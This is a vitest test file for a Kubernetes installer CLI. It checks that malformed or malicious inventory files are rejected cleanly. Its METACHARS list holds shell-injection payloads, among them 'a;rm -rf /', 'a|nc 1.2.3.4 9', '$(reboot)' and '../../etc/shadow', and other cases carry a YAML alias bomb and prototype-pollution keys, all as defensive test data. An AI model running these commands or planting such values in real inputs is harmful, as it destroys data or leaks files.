/**
 * Hostile inputs: broken or malicious inventories, generated programmatically (YAML bombs, wrong types at every
 * field, shell metacharacters in every string field, overlapping CIDRs, huge and deep files, YAML tags). Each goes
 * through `validate` and `plan`: exit 2, a clear message (file or field named), never a crash or a stack trace,
 * and plan never connects to anything.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import type { ConnectionsFactory } from '../../../src/cli/context.js';
import { main } from '../../../src/cli/main.js';
import { MAX_INVENTORY_BYTES } from '../../../src/inventory/index.js';
import type { Output } from '../../../src/ui/output.js';

type Json = string | number | boolean | null | Json[] | { [k: string]: Json };

/** A valid inventory touching most fields; every case below breaks it in one way. */
const BASE: Json = {
  apiVersion: 'kubesmith.io/v1alpha1',
  kind: 'Cluster',
  metadata: { name: 'demo' },
  spec: {
    ssh: {
      user: 'kube',
      port: 22,
      keyPath: './keys/id_ed25519',
      knownHostsPath: '/root/.ssh/known_hosts',
      passwordEnv: 'KS_PW',
      sudo: 'auto',
    },
    hosts: [
      {
        name: 'cp1',
        address: '192.168.56.11',
        internalAddress: '10.0.0.11',
        roles: ['control-plane'],
        labels: { 'example.com/disk': 'ssd' },
      },
      { name: 'w1', address: '192.168.56.21', roles: ['worker'], ssh: { user: 'ops', port: 2222, keyPath: './keys/w1' } },
    ],
    kubernetes: {
      version: '1.34.1',
      controlPlaneEndpoint: 'api.demo.internal:6443',
      podSubnet: '10.244.0.0/16',
      serviceSubnet: '10.96.0.0/12',
      imageRepository: 'registry.k8s.io',
      dnsDomain: 'cluster.local',
      certSANs: ['api.demo.internal'],
    },
    containerRuntime: {
      type: 'containerd',
      registryMirrors: { 'docker.io': ['https://mirror.example.com'] },
      insecureRegistries: ['reg.example.com:5000'],
    },
    network: { plugin: 'flannel' },
  },
};

/** Paths (as key lists) of every leaf of a JSON value. */
function leaves(v: Json, path: (string | number)[] = []): { path: (string | number)[]; value: Json }[] {
  if (Array.isArray(v)) return v.flatMap((x, i) => leaves(x, [...path, i]));
  if (v && typeof v === 'object') return Object.entries(v).flatMap(([k, x]) => leaves(x, [...path, k]));
  return [{ path, value: v }];
}

function setAt(v: Json, path: (string | number)[], value: Json): Json {
  const copy = structuredClone(v) as Record<string | number, Json>;
  let cur = copy;
  for (const k of path.slice(0, -1)) cur = cur[k] as Record<string | number, Json>;
  cur[path[path.length - 1]!] = value;
  return copy as Json;
}

const METACHARS = [
  '$(reboot)',
  '`id`',
  'a;rm -rf /',
  "x' || true; '",
  'a && touch /tmp/pwn',
  'a|nc 1.2.3.4 9',
  'a > /etc/passwd',
  'a\nb',
  '${IFS}x',
  '../../etc/shadow',
];

interface Case {
  name: string;
  text: string;
}

function cases(): Case[] {
  const out: Case[] = [];
  const yaml = (v: Json) => stringify(v, { lineWidth: 0 });
  const stringLeaves = leaves(BASE).filter((l) => typeof l.value === 'string' && !['apiVersion', 'kind'].includes(String(l.path[0])));
  // shell metacharacters in every string field (one payload per field, rotating, plus all payloads on the user)
  stringLeaves.forEach((l, i) => {
    const payload = METACHARS[i % METACHARS.length]!;
    out.push({ name: `metachar ${l.path.join('.')} = ${JSON.stringify(payload)}`, text: yaml(setAt(BASE, l.path, payload)) });
  });
  for (const p of METACHARS)
    out.push({ name: `metachar spec.ssh.user = ${JSON.stringify(p)}`, text: yaml(setAt(BASE, ['spec', 'ssh', 'user'], p)) });
  // metacharacters in keys: label keys and mirror hosts
  out.push({ name: 'metachar in a label key', text: yaml(setAt(BASE, ['spec', 'hosts', 0, 'labels'], { '$(reboot)': 'x' })) });
  out.push({
    name: 'metachar in a mirror registry host',
    text: yaml(setAt(BASE, ['spec', 'containerRuntime', 'registryMirrors'], { 'a;b': ['https://m.example.com'] })),
  });
  // wrong types at every leaf
  const wrong: Json[] = [12345, true, null, ['a'], { x: 1 }];
  leaves(BASE).forEach((l, i) => {
    const w = typeof l.value === 'string' ? wrong[i % wrong.length]! : typeof l.value === 'number' ? 'twenty-two' : 7;
    out.push({ name: `wrong type ${l.path.join('.')} = ${JSON.stringify(w)}`, text: yaml(setAt(BASE, l.path, w)) });
  });
  for (const [field, v] of [
    ['spec', 'a string'],
    ['spec.hosts', { cp1: 'x' }],
    ['spec.hosts', []],
    ['metadata', null],
  ] as const) {
    out.push({ name: `wrong shape ${field}`, text: yaml(setAt(BASE, field.split('.'), v as Json)) });
  }
  // numbers out of range
  // 1e309 is Infinity on purpose: YAML's .inf
  // biome-ignore lint/correctness/noPrecisionLoss: the point is a number no port can be
  for (const port of [0, -1, 65536, 1e309, 2.5])
    out.push({ name: `ssh port ${port}`, text: yaml(setAt(BASE, ['spec', 'ssh', 'port'], port)).replace('port: Infinity', 'port: .inf') });
  // overlapping / bad networks
  out.push({ name: 'pod subnet overlaps service subnet', text: yaml(setAt(BASE, ['spec', 'kubernetes', 'podSubnet'], '10.96.0.0/16')) });
  out.push({ name: 'pod subnet contains a host address', text: yaml(setAt(BASE, ['spec', 'kubernetes', 'podSubnet'], '192.168.0.0/16')) });
  out.push({
    name: 'service subnet contains a host internal address',
    text: yaml(setAt(BASE, ['spec', 'kubernetes', 'serviceSubnet'], '10.0.0.0/12')),
  });
  out.push({ name: 'subnet not a CIDR', text: yaml(setAt(BASE, ['spec', 'kubernetes', 'podSubnet'], '10.244.0.0/33')) });
  // inventory-level rules
  out.push({ name: 'duplicate host names', text: yaml(setAt(BASE, ['spec', 'hosts', 1, 'name'], 'cp1')) });
  out.push({ name: 'duplicate addresses', text: yaml(setAt(BASE, ['spec', 'hosts', 1, 'address'], '192.168.56.11')) });
  out.push({ name: 'no control plane', text: yaml(setAt(BASE, ['spec', 'hosts', 0, 'roles'], ['worker'])) });
  out.push({ name: 'unknown role', text: yaml(setAt(BASE, ['spec', 'hosts', 0, 'roles'], ['master'])) });
  out.push({ name: 'unknown field', text: yaml(setAt(BASE, ['spec', 'sshh'], { user: 'root' })) });
  out.push({ name: 'unsupported version', text: yaml(setAt(BASE, ['spec', 'kubernetes', 'version'], '1.12.0')) });
  out.push({
    name: 'prototype pollution keys',
    text: yaml(BASE).replace('kind: Cluster', 'kind: Cluster\n__proto__:\n  polluted: true\nconstructor:\n  prototype: 1'),
  });
  // YAML attacks and broken files
  const laugh = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]'];
  for (let i = 1; i < 10; i++)
    laugh.push(
      `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9)
        .fill(`*${String.fromCharCode(96 + i)}`)
        .join(',')}]`,
    );
  out.push({ name: 'billion laughs (alias bomb)', text: laugh.join('\n') + '\n' });
  out.push({
    name: 'alias bomb inside a valid inventory',
    text: yaml(BASE) + 'x: &x [1,2,3,4,5,6,7,8,9,10]\n' + Array.from({ length: 150 }, (_, i) => `y${i}: [*x, *x, *x]`).join('\n') + '\n',
  });
  out.push({ name: 'huge file', text: yaml(BASE) + '# ' + 'x'.repeat(MAX_INVENTORY_BYTES + 10) + '\n' });
  out.push({ name: 'deep nesting', text: 'a: ' + '['.repeat(20_000) + ']'.repeat(20_000) + '\n' });
  out.push({ name: 'very long string', text: yaml(setAt(BASE, ['metadata', 'name'], 'a'.repeat(100_000))) });
  out.push({ name: 'empty file', text: '' });
  out.push({ name: 'only a comment', text: '# nothing\n' });
  out.push({ name: 'a YAML list instead of a mapping', text: '- a\n- b\n' });
  out.push({ name: 'two documents', text: yaml(BASE) + '---\n' + yaml(BASE) });
  out.push({ name: 'unterminated quote', text: 'apiVersion: "kubesmith.io/v1alpha1\nkind: Cluster\n' });
  out.push({ name: 'tab indentation', text: 'spec:\n\thosts: []\n' });
  out.push({ name: 'binary garbage', text: Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)).toString('latin1') });
  out.push({ name: 'custom tag !!js/function', text: yaml(BASE).replace('name: demo', 'name: !!js/function "function(){ return 1 }"') });
  out.push({ name: 'binary tag', text: yaml(BASE).replace('name: demo', 'name: !!binary aGVsbG8=') });
  out.push({
    name: 'merge key into hosts',
    text: yaml(BASE).replace('metadata:', 'base: &b { user: "$(id)" }\nmetadata:').replace('  ssh:\n', '  ssh:\n    <<: *b\n'),
  });
  out.push({ name: 'duplicate keys', text: yaml(BASE).replace('kind: Cluster', 'kind: Cluster\nkind: Other') });
  out.push({ name: 'wrong apiVersion', text: yaml(setAt(BASE, ['apiVersion'], 'v1')) });
  out.push({ name: 'NUL byte in a name', text: yaml(BASE).replace('name: demo', 'name: "de\\0mo"') });
  return out;
}

const dir = mkdtempSync(join(tmpdir(), 'ks-hostile-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
// validate checks that the key files BASE names exist (relative paths resolve next to the inventory).
mkdirSync(join(dir, 'keys'));
for (const key of ['id_ed25519', 'w1']) writeFileSync(join(dir, 'keys', key), 'key\n');

const noConnections: ConnectionsFactory = () => ({
  get: async (host) => {
    throw new Error(`hostile inventory test: plan tried to connect to ${host.name}`);
  },
  closeAll: async () => undefined,
});

async function run(argv: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const out: Output = {
    stdout: { write: (s: string) => void (stdout += s) },
    stderr: { write: (s: string) => void (stderr += s) },
    isTTY: false,
    color: false,
  };
  const code = await main(argv, {
    out,
    env: { PATH: process.env.PATH ?? '' },
    cwd: dir,
    signal: new AbortController().signal,
    connections: noConnections,
  });
  process.exitCode = undefined;
  return { code, stdout, stderr };
}

const STACK = /\n\s+at .+:\d+:\d+|TypeError|RangeError|ReferenceError|Maximum call stack|Cannot read propert/;

describe('hostile inventories', () => {
  const all = cases();

  it('there are at least 50 of them, each a mutation of an inventory that is valid', async () => {
    expect(all.length).toBeGreaterThanOrEqual(50);
    const file = join(dir, 'base.yaml');
    writeFileSync(file, stringify(BASE));
    const r = await run(['validate', '-i', file]);
    expect(r.code, r.stderr).toBe(0);
  });

  it.each(all.map((c, i) => [c.name, i] as const))('%s: validate and plan exit 2 with a clear message', async (_name, i) => {
    const file = join(dir, `inv-${i}.yaml`);
    writeFileSync(file, all[i]!.text, 'latin1');
    for (const cmd of ['validate', 'plan']) {
      const r = await run([cmd, '-i', file]);
      const shown = `${cmd}: exit ${r.code}\n${r.stderr.slice(0, 1500)}\n${r.stdout.slice(0, 500)}`;
      expect(r.code, shown).toBe(2);
      expect(r.stderr, shown).not.toMatch(STACK);
      expect(r.stderr.trim().length, shown).toBeGreaterThan(10);
      expect(r.stderr.length, shown).toBeLessThan(20_000); // a message, not a dump of the input
      expect(r.stderr, shown).toMatch(/inv-\d+\.yaml|spec\.|metadata\.|apiVersion|kind/);
    }
  });

  it('with --output json the error is one JSON line with exit code 2', async () => {
    const file = join(dir, 'json.yaml');
    writeFileSync(file, stringify(setAt(BASE, ['spec', 'ssh', 'user'], '$(reboot)')));
    const r = await run(['validate', '-i', file, '--output', 'json']);
    expect(r.code).toBe(2);
    const lines = r.stdout.trim().split('\n');
    expect(lines).toHaveLength(1);
    expect(JSON.parse(lines[0]!)).toMatchObject({ type: 'error', exitCode: 2 });
  });
});
